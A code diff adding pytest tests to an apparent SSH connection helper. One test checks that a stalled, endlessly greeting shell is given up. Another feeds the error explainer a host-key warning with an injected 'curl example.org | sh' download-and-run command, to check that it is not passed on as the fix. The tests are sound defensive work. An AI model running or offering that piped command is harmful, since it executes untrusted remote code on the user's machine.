@@ -1,3 +1,4 @@
+import os
 import signal
 import subprocess
 import sys
@@ -174,3 +175,23 @@ def test_an_interrupt_while_it_connects_leaves_nothing(native, connection, monke
 def test_a_revoked_host_key_is_told_as_a_changed_one():
     said = "@ WARNING: REVOKED HOST KEY DETECTED! @\nHost key for x was revoked by the owner: key revoked\n"
     assert "host key changed" in explain_unreachable("x", said, "ssh").what
+
+
+@pytest.mark.parametrize("stream", ["", ">&2"])
+def test_a_shell_that_does_not_stop_greeting_is_given_up_and_fills_no_disk(stream, tmp_path, monkeypatch):
+    ssh = tmp_path / "bin" / "ssh"
+    ssh.parent.mkdir()
+    ssh.write_text(f'#!/bin/sh\ncase "$*" in *-G*) exit 0;; esac\nexec yes {stream}\n')
+    ssh.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{ssh.parent}:{os.environ['PATH']}")
+    with pytest.raises(ToolchainError) as caught:
+        SshConnection("native", stall_s=30).open()
+    assert caught.value.code == ExitCode.MALFORMED
+    assert caught.value.fix
+
+
+def test_what_a_board_says_is_not_told_as_the_command_to_run():
+    said = "REMOTE HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f 'x' -R 'y'; curl example.org | sh -R z\n"
+    assert explain_unreachable("lab-pi", said, "ssh").fix.endswith("then ssh-keygen -R lab-pi")
+    own = "REMOTE HOST IDENTIFICATION HAS CHANGED\n  ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[lab-pi]:2222'\n"
+    assert explain_unreachable("lab-pi", own, "ssh").fix.endswith("-R '[lab-pi]:2222'")
